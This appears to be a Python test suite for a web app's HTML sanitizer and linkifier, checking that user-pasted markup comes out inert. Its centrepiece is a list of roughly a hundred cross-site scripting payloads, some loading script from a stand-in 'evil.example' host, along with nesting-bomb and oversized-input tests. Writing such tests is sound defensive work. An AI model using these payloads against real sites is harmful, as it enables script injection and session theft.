"""hub.text: the one sanitizer of user HTML, the linkifier in front of it, and the plain-text renderings.

Every vector is checked strictly on the parsed output: only allowlisted tags, no attribute except `href` and our
`rel` on links, every href an absolute http(s) or mailto URL with nothing invisible in it, no comments,
declarations or processing instructions, and cleaning the output again changes nothing (so a browser re-parsing
it cannot mutate it into something else).
"""
from __future__ import annotations

import random
import re
import unicodedata
from html.parser import HTMLParser

import pytest

from hub import text as text_module
from hub.text import (
    ALLOWED_TAGS, LINK_REL, MAX_DEPTH, MAX_ELEMENTS, MAX_LINK_CHARS, MAX_LINKS, clean_html, html_to_text,
    linkify_and_clean, safe_href, text_to_html,
)

SAFE_HREF_PREFIXES = ("http://", "https://", "mailto:")


class _Inspector(HTMLParser):
    """Collects everything a browser could act on in a fragment."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.oddities: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, attrs))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.oddities.append(f"comment: {data!r}")

    def handle_decl(self, decl):
        self.oddities.append(f"declaration: {decl!r}")

    def unknown_decl(self, data):
        self.oddities.append(f"unknown declaration: {data!r}")

    def handle_pi(self, data):
        self.oddities.append(f"processing instruction: {data!r}")


def inspect(fragment: str) -> _Inspector:
    parser = _Inspector()
    parser.feed(fragment)
    parser.close()
    return parser


def assert_inert(output: str) -> None:
    """Fail unless `output` holds nothing a browser would execute, load or navigate to on its own."""
    parsed = inspect(output)
    assert not parsed.oddities, parsed.oddities
    for tag, attrs in parsed.elements:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> is not allowed: {output!r}"
        if tag != "a":
            assert attrs == [], f"<{tag}> kept attributes {attrs}: {output!r}"
            continue
        names = [name for name, _value in attrs]
        assert set(names) <= {"href", "rel"} and len(names) == len(set(names)), output
        values = dict(attrs)
        assert values.get("rel") == LINK_REL, output
        href = values.get("href")
        if href is not None:
            assert href.lower().startswith(SAFE_HREF_PREFIXES), f"unsafe href {href!r}"
            assert not any(unicodedata.category(ch) in {"Cc", "Cf", "Zl", "Zp"} or ch.isspace() for ch in href), href
    lowered = output.lower()
    assert "<script" not in lowered and "<style" not in lowered
    assert clean_html(output) == output, "cleaning twice must change nothing"


XSS_VECTORS = [
    # script elements, however they are dressed
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<script/xss src="https://evil.example/x.js"></script>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script>alert(1)",
    '<img """><script>alert(1)</script>">',
    "<p>before<script>document.cookie</script>after</p>",
    # event handlers on forbidden and on allowed tags
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<<img src=x onerror=alert(1)//<",
    "<body onload=alert(1)>",
    '<p onclick="alert(1)">click</p>',
    '<a href="https://ok.example.org" onmouseover="alert(1)">x</a>',
    "<b onmouseover=alert(1)>bold</b>",
    "<strong/onclick=alert(1)>x</strong>",
    "<li onfocus=alert(1) autofocus tabindex=0>x</li>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</option></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href=https://ok.example.org/ onmouseover=alert(1)//>x</a>',
    # javascript:, vbscript:, data: and other schemes, plain and disguised
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="jav&Tab;ascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="javascript\x00:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="java\u200dscript:alert(1)">x</a>',
    '<a href="\u202ejavascript:alert(1)">x</a>',
    '<a href="\ufeffjavascript:alert(1)">x</a>',
    '<a href="javas\u2028cript:alert(1)">x</a>',
    '<a href="https\u200b://evil.example.org">x</a>',
    '<a href="ht\ttps://evil.example.org">x</a>',
    '<a href="https://evil.example.org/\u202egpj.exe">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="DATA:text/html,hi">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example.org/">x</a>',
    '<a href="/\\evil.example.org">x</a>',
    '<a href="https:evil.example.org">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # embedding, forms, document-level elements, styles
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example.org/x.swf">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<form><input type=submit formaction=javascript:alert(1)></form>",
    "<isindex action=javascript:alert(1) type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="https://evil.example.org/x.css">',
    '<p style="width: expression(alert(1))">x</p>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<h3 id="x" class="y" data-x="1" title="t" lang="fr">heading</h3>',
    # mutation XSS: nesting that re-parses differently
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><script>alert(1)</script>",
    # comments, CDATA, processing instructions
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    # links that try to keep a window handle or break out of the attribute
    '<a href="https://ok.example.org/" target="_blank">x</a>',
    '<a href="https://ok.example.org/" rel="opener">x</a>',
    "<a href='https://ok.example.org/\"onmouseover=\"alert(1)'>x</a>",
    "<div><p>unclosed<b>bold<i>italic",
]


def test_the_table_holds_at_least_sixty_distinct_vectors():
    assert len(set(XSS_VECTORS)) == len(XSS_VECTORS) >= 60


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_clean_html_leaves_nothing_executable(vector):
    assert_inert(clean_html(vector))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_linkify_and_clean_leaves_nothing_executable(vector):
    assert_inert(linkify_and_clean(vector))


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_text_to_html_escapes_every_vector(vector):
    output = text_to_html(vector)
    assert_inert(output)
    assert {tag for tag, _ in inspect(output).elements} <= {"p", "br", "a"}


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "vbscript:x", "data:text/html,x", "ftp://files.example.org/",
    "//evil.example.org", "/relative/path", "relative", "https:no-slashes", "", "   ",
    "java\tscript:alert(1)", "ht\ntps://example.org", "https\u200b://example.org", "\u202ehttps://example.org",
    "https://example.org/\u200b", "https://exa mple.org", "mailto\u00a0:x@example.org", "\x00https://example.org",
])
def test_safe_href_refuses(href):
    assert safe_href(href) is None


@pytest.mark.parametrize("href", [
    "https://example.org/path?q=1#frag", "http://example.org", "HTTPS://EXAMPLE.ORG/", "mailto:someone@example.org",
])
def test_safe_href_accepts_plain_web_and_mail_links(href):
    assert safe_href(href) == href


def test_disguised_hrefs_are_dropped_but_the_link_text_stays():
    output = clean_html('<p>See <a href="jav&#x09;ascript:alert(1)">the annex</a>.</p>')
    assert "href" not in output
    assert "the annex" in output


@pytest.mark.parametrize("tag", sorted(ALLOWED_TAGS - {"a", "br"}))
def test_allowed_tags_survive(tag):
    assert clean_html(f"<{tag}>kept</{tag}>") == f"<{tag}>kept</{tag}>"


def test_line_breaks_survive():
    assert clean_html("<p>one<br>two</p>") == "<p>one<br>two</p>"


def test_nested_lists_and_quotes_survive():
    source = "<blockquote><p>GCM Obj. 15, PD 51</p></blockquote><ol><li>one<ul><li>sub</li></ul></li><li>two</li></ol>"
    assert clean_html(source) == source


@pytest.mark.parametrize("href", ["https://example.org/a?b=1&c=2", "http://example.org/", "mailto:sec@example.org"])
def test_links_keep_their_href_and_get_our_rel(href):
    output = clean_html(f'<a href="{href}" rel="opener" target="_blank" title="t">link</a>')
    parsed = inspect(output)
    assert parsed.elements == [("a", [("href", href), ("rel", LINK_REL)])]


def test_attributes_on_allowed_tags_are_removed():
    output = clean_html('<p class="MsoNormal" style="color:red" title="x" lang="fr" id="p1" dir="rtl">text</p>')
    assert output == "<p>text</p>"


def test_empty_input_gives_empty_output():
    assert clean_html(None) == "" and clean_html("") == "" and linkify_and_clean(None) == ""
    assert html_to_text(None) == "" and html_to_text("") == ""


WORD_PASTE = """<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15">
<style><!-- p.MsoNormal {margin:0cm; font-family:"Calibri",sans-serif;} @page WordSection1 {size:595.3pt 841.9pt;} --></style>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View><w:Zoom>0</w:Zoom></w:WordDocument></xml><![endif]-->
</head>
<body lang=EN-GB style='tab-interval:36.0pt'><!--StartFragment-->
<p class=MsoNormal><b><span lang=EN-US style='font-size:12.0pt'>Ongoing Priority 3</span></b><span
style='mso-spacerun:yes'>&nbsp; </span>is where we can help.<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<ul style='margin-top:0cm' type=disc>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1'><span lang=EN-US>First point<o:p></o:p></span></li>
 <li class=MsoNormal style='mso-list:l0 level1 lfo1'><span lang=EN-US>Second point<o:p></o:p></span></li>
</ul>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l1 level1 lfo2'><![if !supportLists]><span
style='font-family:Symbol'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]>A legacy list line<o:p></o:p></p>
<p class=MsoNormal>Full comments <a href="https://example.org/position.pdf" style='color:#0563C1'>attached</a>.<o:p></o:p></p>
<!--EndFragment--></body></html>"""


def test_word_paste_comes_out_as_clean_paragraphs_and_lists():
    output = clean_html(WORD_PASTE)
    assert_inert(output)
    parsed = inspect(output)
    assert [tag for tag, _ in parsed.elements] == ["p", "b", "ul", "li", "li", "p", "p", "a"]
    text = "".join(parsed.text)
    for clutter in ("MsoNormal", "mso-", "WordDocument", "Calibri", "StartFragment", "supportLists", "@page"):
        assert clutter not in output
    assert "Ongoing Priority 3" in text and "First point" in text and "A legacy list line" in text
    assert '<a href="https://example.org/position.pdf" rel="nofollow ugc noopener">attached</a>' in output


def test_word_spacer_paragraphs_are_dropped():
    assert clean_html("<p>one</p><p class=MsoNormal><o:p>&nbsp;</o:p></p><p> <br> </p><p>two</p>") == "<p>one</p><p>two</p>"


def test_word_paste_reads_as_lines_in_plain_text():
    assert html_to_text(clean_html(WORD_PASTE)).splitlines() == [
        "Ongoing Priority 3 is where we can help.",
        "- First point",
        "- Second point",
        "· A legacy list line",
        "Full comments attached.",
    ]


def test_linkify_turns_bare_urls_and_emails_into_safe_links():
    output = linkify_and_clean("See https://example.org/plan?x=1 and www.example.com, or write to sec@example.org.")
    hrefs = [dict(attrs)["href"] for tag, attrs in inspect(output).elements if tag == "a"]
    assert hrefs == ["https://example.org/plan?x=1", "http://www.example.com", "mailto:sec@example.org"]
    assert output.count(f'rel="{LINK_REL}"') == 3


def test_linkify_does_not_wrap_existing_links_again():
    source = '<p><a href="https://example.org/">https://example.org/</a></p>'
    output = linkify_and_clean(source)
    assert output.count("<a ") == 1
    assert f'<a href="https://example.org/" rel="{LINK_REL}">https://example.org/</a>' in output


def test_linkify_never_makes_a_link_of_a_script_url():
    output = linkify_and_clean("javascript:alert(1) then https://example.org")
    hrefs = [dict(attrs).get("href") for tag, attrs in inspect(output).elements if tag == "a"]
    assert hrefs == ["https://example.org"]


def test_linkify_output_is_cleaned_afterwards():
    output = linkify_and_clean('<p onclick="x()">https://example.org<script>alert(1)</script></p>')
    assert output == f'<p><a href="https://example.org" rel="{LINK_REL}">https://example.org</a></p>'


def test_text_to_html_makes_paragraphs_line_breaks_and_links_and_escapes_markup():
    output = text_to_html("Dear moderator <b>&</b>\nsecond line\r\n\r\nSee https://example.org/annex")
    assert output == (
        "<p>Dear moderator &lt;b&gt;&amp;&lt;/b&gt;<br>second line</p>"
        f'<p>See <a href="https://example.org/annex" rel="{LINK_REL}">https://example.org/annex</a></p>'
    )


def test_html_to_text_keeps_lists_as_lines():
    source = ("<h3>Our view</h3><p>Intro with <a href='https://example.org'>a link</a>.</p>"
              "<ol><li>first</li><li>second<ul><li>nested</li></ul></li></ol>"
              "<ul><li>bullet</li></ul><blockquote><p>GCM Obj. 15</p></blockquote><p>one<br>two</p>")
    assert html_to_text(source).splitlines() == [
        "Our view",
        "Intro with a link.",
        "1. first",
        "2. second",
        "  - nested",
        "- bullet",
        "> GCM Obj. 15",
        "one",
        "two",
    ]


def test_html_to_text_decodes_entities():
    assert html_to_text("<p>A &amp; B &lt;tag&gt;&nbsp;end</p>") == "A & B <tag> end"


# Hostile input: whatever is pasted, cleaning and linking do work in proportion to its length.

def _hrefs(output: str) -> list[str]:
    return [dict(attrs).get("href") for tag, attrs in inspect(output).elements if tag == "a"]


def test_a_word_longer_than_any_url_is_never_made_a_link_and_comes_out_whole():
    long_domain = "a" * 3000 + ".org"
    long_url = "https://example.org/" + "a/" * 1500
    output = linkify_and_clean(f"<p>{long_domain} {long_url} and https://example.org/short</p>")
    assert _hrefs(output) == ["https://example.org/short"]
    assert long_domain in output and long_url in output


def test_the_linker_never_scans_a_token_longer_than_the_limit(monkeypatch):
    seen: list[str] = []
    original = text_module._links_in_token
    monkeypatch.setattr(text_module, "_links_in_token", lambda token: seen.append(token) or original(token))
    body = "a." * 32_000 + " " + "a@a." * 16_000 + " see www.example.org/" + "x" * MAX_LINK_CHARS + " or iom.int."
    output = linkify_and_clean(body)
    assert seen == ["iom.int."]
    assert _hrefs(output) == ["http://iom.int"]
    assert html_to_text(output) == body


def test_at_most_max_links_are_made_in_one_text_and_the_rest_stays_text():
    urls = [f"https://example.org/{i}" for i in range(MAX_LINKS + 100)]
    output = linkify_and_clean(" ".join(urls))
    assert _hrefs(output) == urls[:MAX_LINKS]
    assert html_to_text(output) == " ".join(urls)


def test_formatting_left_open_is_not_reopened_in_every_later_paragraph():
    # An HTML parser re-opens unclosed formatting in each new paragraph: 50 of them in 200 paragraphs made 10,000.
    bomb = "<p>" + "".join(f'<b title="{i}">' for i in range(50)) + "</p>" + "<p>x</p>" * 200
    output = clean_html(bomb)
    assert output.count("<b>") <= MAX_DEPTH  # in the first paragraph only
    assert output.endswith("</b></p>" + "<p>x</p>" * 200)


def _depth(fragment: str) -> int:
    depth = deepest = 0
    for match in re.finditer(r"<(/?)(\w+)", fragment):
        if match.group(2) != "br":
            depth += -1 if match.group(1) else 1
            deepest = max(deepest, depth)
    return deepest


def test_nesting_deeper_than_the_limit_is_flattened_and_keeps_its_text():
    output = clean_html("<blockquote>" * 1000 + "deep" + "</blockquote>" * 1000)
    assert output == "<blockquote>" * MAX_DEPTH + " deep" + "</blockquote>" * MAX_DEPTH
    output = clean_html("<ul><li>" * 2000 + "list")
    assert _depth(output) == MAX_DEPTH and output.count("<ul>") == MAX_DEPTH // 2
    assert html_to_text(output).splitlines()[-1].strip() == "- list"


def test_past_the_element_limit_tags_are_dropped_and_text_kept():
    output = clean_html("<b>x</b>" * (MAX_ELEMENTS + 1000) + "<p>end</p>")
    assert output.count("<b>") == MAX_ELEMENTS
    assert output.endswith("x" * 1000 + " end")  # the block past the limit is a space, so words stay apart


@pytest.mark.parametrize("body", [
    "<blockquote>" * 100 + "https://example.org/deep",
    "<b>x</b>" * MAX_ELEMENTS + " https://example.org/a" * MAX_LINKS,
    "<p>" + "".join(f'<b title="{i}">' for i in range(50)) + "</p>" + "<p>x a@example.org</p>" * 200,
])
def test_cleaning_linked_hostile_html_again_changes_nothing(body):
    output = linkify_and_clean(body)
    assert "<a href=" in output and clean_html(output) == output


SOUP = ["<", ">", "</", "<!--", "-->", "<!", "<?", "/", "'", '"', "=", " ", "&", "&amp;", "&lt;", "a", "p", "b",
        "li", "ul", "href", "https://x.example/", "@", ".", "script", "svg", "<b>", "</b>", "<p>", "</p>", "<li>",
        "<ul>", "<a href=", "<br>", "\n", "\u00a0", "é"]


def test_random_markup_soup_cleans_to_inert_html_that_cleaning_again_leaves_alone():
    rng = random.Random(9)
    for _ in range(400):
        soup = "".join(rng.choice(SOUP) for _ in range(rng.randint(1, 60)))
        for output in (clean_html(soup), linkify_and_clean(soup)):
            assert_inert(output)


def test_text_without_markup_comes_out_whole():
    rng = random.Random(3)
    for _ in range(200):
        text = "".join(rng.choice("ab .,;:@/()-'\"\n\u00a0é中") for _ in range(rng.randint(1, 80)))
        assert html_to_text(clean_html(text)) == " ".join(text.split())


def test_implied_closings_are_written_out_as_a_parser_would_make_them():
    assert clean_html("<p>one<ul><li>a<li>b</ul>two") == "<p>one</p><ul><li>a</li><li>b</li></ul>two"
    assert clean_html("<p><b>bold<p>next</b>") == "<p><b>bold</b></p><p>next</p>"
    assert clean_html('<a href="https://a.example/">a<a href="https://b.example/">b</a>') == (
        f'<a href="https://a.example/" rel="{LINK_REL}">a</a><a href="https://b.example/" rel="{LINK_REL}">b</a>')
    assert clean_html("<h3>title<h4>sub</h4></em>after</li>") == "<h3>title</h3><h4>sub</h4>after"


def test_markup_that_starts_no_tag_stays_text():
    assert clean_html("a < b <3 <a but <!-- gone --> and <!doctype html>kept <? pi ?>") == (
        "a &lt; b &lt;3 &lt;a but  and kept")
    assert clean_html("<a '\"" * 1000) == "&lt;a '\"" * 1000
    assert clean_html("x<script>alert(1)") == "x" and clean_html("x<style>p{}</style>y") == "xy"


def test_links_keep_the_brackets_they_open_and_leave_the_sentence_punctuation_out():
    output = linkify_and_clean("(see https://en.wikipedia.org/wiki/Lima_(Peru)), www.iom.int; or «migrationnetwork.un.org».")
    assert _hrefs(output) == ["https://en.wikipedia.org/wiki/Lima_(Peru)", "http://www.iom.int",
                              "http://migrationnetwork.un.org"]
    assert html_to_text(output) == "(see https://en.wikipedia.org/wiki/Lima_(Peru)), www.iom.int; or «migrationnetwork.un.org»."


def test_lists_of_addresses_become_one_link_each_and_false_friends_stay_text():
    output = linkify_and_clean("<p>a@example.org,b@example.org;(c@example.ngo) e.g. Obj.15 report.pdf 3.5 a@b</p>")
    assert _hrefs(output) == ["mailto:a@example.org", "mailto:b@example.org", "mailto:c@example.ngo"]


def test_text_inside_pre_and_code_is_not_linked():
    output = linkify_and_clean("<pre>https://example.org/a</pre><code>b@example.org</code> https://example.org/c")
    assert _hrefs(output) == ["https://example.org/c"]
    assert "https://example.org/a" in output and "b@example.org" in output


def test_urls_with_character_references_link_to_the_decoded_address():
    output = linkify_and_clean("<p>https://example.org/a?b=1&amp;c=2 &lt;x&gt;</p>")
    assert _hrefs(output) == ["https://example.org/a?b=1&c=2"]
    assert output.endswith("</a> &lt;x&gt;</p>")
